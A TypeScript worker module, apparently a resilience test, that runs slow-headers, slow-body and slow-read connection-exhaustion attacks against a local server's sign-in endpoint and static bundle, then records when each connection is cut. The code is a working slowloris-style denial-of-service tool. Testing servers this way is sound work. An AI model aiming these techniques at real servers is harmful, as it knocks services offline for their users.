import { connect } from 'node:net'
import { parentPort, workerData } from 'node:worker_threads'

/** Ways of holding a connection open without getting anywhere. */
export type SlowWay = 'headers' | 'body' | 'read'

export interface AttackOrder {
  readonly port: number
  readonly ways: readonly SlowWay[]
  readonly each: number
  /** How long each connection is held, and over how long they are begun, in milliseconds. */
  readonly time: number
  readonly over: number
}

/** For each way, after how many milliseconds each connection was closed on the attacker; null where it was still open at the end. */
export type AttackOutcome = Readonly<Partial<Record<SlowWay, readonly (number | null)[]>>>

const address = '/docs/static/swagger-ui-bundle.js'
const beginnings: Readonly<Record<SlowWay, string>> = {
  headers: 'POST /api/session/sign-in HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n',
  body: 'POST /api/session/sign-in HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{"a":"',
  // More than what the system between keeps for a reader that does not read.
  read: `GET ${address} HTTP/1.1\r\nHost: x\r\n\r\n`.repeat(4),
}

function hold(way: SlowWay, { port, time }: AttackOrder): Promise<number | null> {
  return new Promise((resolve) => {
    const begun = performance.now()
    const socket = connect(port, '127.0.0.1')
    if (way === 'read') socket.pause()
    else socket.resume()
    socket.on('error', () => undefined)
    socket.on('connect', () => socket.write(beginnings[way]))
    let count = 0
    // A byte now and then, so that neither side's system sees a silent connection. A reader notices only by writing that it was cut off.
    const drip = setInterval(
      () => {
        if (way === 'headers') socket.write(`X-A${(count += 1)}: b\r\n`)
        if (way === 'body') socket.write('x')
        if (way === 'read') socket.write('\r\n')
      },
      way === 'read' ? 250 : 1000,
    )
    const end = (after: number | null) => {
      clearInterval(drip)
      clearTimeout(limit)
      socket.destroy()
      resolve(after)
    }
    const limit = setTimeout(() => end(null), time)
    socket.on('close', () => end(performance.now() - begun))
  })
}

function later<T>(time: number, work: () => Promise<T>): Promise<T> {
  return new Promise((resolve) => setTimeout(() => resolve(work()), time))
}

async function attack(order: AttackOrder): Promise<AttackOutcome> {
  const all = (way: SlowWay) =>
    Promise.all(
      Array.from({ length: order.each }, (_, at) => later((at * order.over) / order.each, () => hold(way, order))),
    )
  const found = await Promise.all(order.ways.map(async (way) => [way, await all(way)] as const))
  return Object.fromEntries(found)
}

if (parentPort) parentPort.postMessage(await attack(workerData as AttackOrder))
